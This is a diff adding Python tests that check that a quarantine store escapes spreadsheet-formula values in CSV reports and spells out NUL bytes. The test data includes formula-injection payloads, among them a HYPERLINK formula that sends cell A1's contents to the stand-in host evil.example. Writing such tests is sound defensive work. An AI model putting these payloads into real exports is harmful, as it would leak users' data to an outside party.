@@ -62,3 +62,23 @@ def test_report_from_raw_validation_issues(tmp_path) -> None:  # noqa: ANN001
     report = pd.read_csv(path)
     assert report["entity"].tolist() == ["users"] * 3
     assert report["value"].str.len().max() == 200
+
+
+def test_report_cells_cannot_run_as_spreadsheet_formulas(store: Store, tmp_path) -> None:  # noqa: ANN001
+    risky = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\r=1+1"]
+    found = pd.DataFrame({"source": "customers.csv", "row_number": range(1, 7), "field": "sales_rep_email",
+                          "value": risky, "reason": [f"value {v!r} is not a valid email address" for v in risky]})
+    store.quarantine.add("run-1", "organizations", found)
+    stored = store.quarantine.for_run("run-1")
+    assert stored["value"].tolist() == risky  # the store keeps what the user sent; only the report is escaped
+    path = store.quarantine.write_report(stored, tmp_path / "q.csv")
+    report = pd.read_csv(path, keep_default_na=False)
+    assert report["value"].tolist() == ["'" + v for v in risky]
+    assert report["reason"].str.startswith("value ").all() and report["source"].tolist() == ["customers.csv"] * 6
+
+
+def test_a_nul_byte_in_a_quarantined_value_is_stored_spelled_out(store: Store) -> None:
+    found = pd.DataFrame({"source": ["o.csv"], "row_number": [1], "field": ["organization_name"],
+                          "value": ["Acme\x00Corp"], "reason": ["contains control character U+0000 (NUL)"]})
+    assert store.quarantine.add("run-1", "organizations", found) == 1
+    assert store.quarantine.for_run("run-1")["value"].tolist() == ["Acme\\x00Corp"]
